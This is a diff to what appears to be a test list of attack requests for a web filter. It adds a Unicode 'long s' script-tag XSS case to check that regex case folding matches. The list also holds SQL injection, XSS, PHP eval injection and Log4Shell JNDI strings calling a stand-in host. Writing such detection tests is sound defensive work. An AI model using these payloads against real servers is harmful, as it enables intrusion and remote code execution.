@@ -22,6 +22,7 @@ ATTACKS = [
     "/item.php?id=1%20union%20select%20null",
     "/item.php?id=1/**/UNION/**/SELECT/**/1",
     "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/search?q=<\u017fcript>",  # RE2 folds the long s to s under (?i); so must Python
     "/?x=${jndi:ldap://198.51.100.9/a}",
     "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
     "/index.php?c=eval(base64_decode(%22ZWNobw%22))",
